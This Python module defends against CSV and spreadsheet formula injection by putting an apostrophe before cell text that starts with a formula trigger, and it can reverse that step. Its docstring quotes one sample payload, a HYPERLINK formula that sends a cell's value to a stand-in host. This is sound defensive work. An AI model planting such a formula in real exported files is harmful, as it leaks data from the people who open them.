"""Cells that a spreadsheet must not run: the one rule for text written to CSV and XLSX.

A spreadsheet program treats a cell whose text starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some programs, a tab or carriage return before one of them) as a formula. A provider name
such as ``=HYPERLINK("http://x/?"&A1,"click")`` written as it is would run when a commissioner
opens the file (OWASP "CSV injection"). Only *text* is neutralised: a negative number is a
number, never a formula.

* In CSV the only defence is to change the text: :func:`neutralise` puts an apostrophe before
  it (what a spreadsheet shows, and what Excel itself stores when a person types ``'=x``).
  :func:`restore` undoes it, so our readers get back exactly what was written: an apostrophe
  is also put before text that already starts with an apostrophe followed by a trigger or a
  second apostrophe, which keeps the pair lossless.
* In XLSX a cell has a type: text cells are written as text (never formula) and marked
  ``quotePrefix`` so that Excel keeps them text when a person edits them; the value itself is
  not changed (see :mod:`allocator.report.writers`).

This module sits in the lowest layer because both the instance writers (``allocator convert``)
and the result writers (:mod:`allocator.report.writers`) use it.
"""

from __future__ import annotations

from typing import Any

# Characters that make a spreadsheet read the cell as a formula (or hide one behind them).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def is_formula_like(text: str) -> bool:
    """True when a spreadsheet would take ``text`` for a formula."""
    return text.startswith(FORMULA_LEADS)


def neutralise(text: str) -> str:
    """``text`` made safe for a CSV cell (an apostrophe before a formula-leading text).

    >>> neutralise("=1+2"), neutralise("-x"), neutralise("Leeds"), neutralise("'=x")
    ("'=1+2", "'-x", 'Leeds', "''=x")
    """
    if is_formula_like(text) or (
        text.startswith(QUOTE) and text[1:2] != "" and (is_formula_like(text[1:])
                                                        or text[1] == QUOTE)):
        return QUOTE + text
    return text


def restore(text: str) -> str:
    """Inverse of :func:`neutralise` (any other text is returned unchanged)."""
    if text.startswith(QUOTE) and len(text) > 1 and (is_formula_like(text[1:])
                                                     or text[1] == QUOTE):
        return text[1:]
    return text


def safe_value(value: Any) -> Any:
    """``value`` for a CSV cell: text neutralised, anything else unchanged."""
    return neutralise(value) if isinstance(value, str) else value
